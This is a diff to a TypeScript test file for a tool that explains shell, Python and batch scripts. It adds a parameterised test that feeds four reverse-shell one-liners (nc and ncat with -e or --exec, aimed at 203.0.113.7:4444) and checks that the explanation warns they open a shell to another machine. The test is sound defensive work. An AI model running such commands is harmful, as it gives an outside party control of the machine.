@@ -4,7 +4,7 @@ import { explainScript } from './explain-script.ts'
 import type { ScriptResult } from './script-result.ts'
 import { scriptTool } from './script-tool.ts'
 
-async function explained(script: string, kind: 'shell' | 'python') {
+async function explained(script: string, kind: 'shell' | 'python' | 'batch') {
   const report = await runFileTool(scriptTool, new TextEncoder().encode(script), {
     types: [{ kind, mime: 'text/plain', label: kind }],
   })
@@ -33,4 +33,13 @@ test('what was not looked at stands in the explanation', async () => {
   expect(await explained(deep, 'python')).toContain(
     'Not understood or not looked at:\nParts of the script were too deep',
   )
+})
+
+test.each([
+  ['nc -e /bin/sh 203.0.113.7 4444', 'shell'],
+  ['nc 203.0.113.7 4444 -e /bin/bash', 'shell'],
+  ['ncat --exec "/usr/bin/bash" 203.0.113.7 4444', 'shell'],
+  ['nc.exe -nv 203.0.113.7 4444 -e cmd.exe', 'batch'],
+] as const)('a listener that hands its shell to another machine is told: %s', async (script, kind) => {
+  expect(await explained(script, kind)).toContain('opens a shell to another machine')
 })
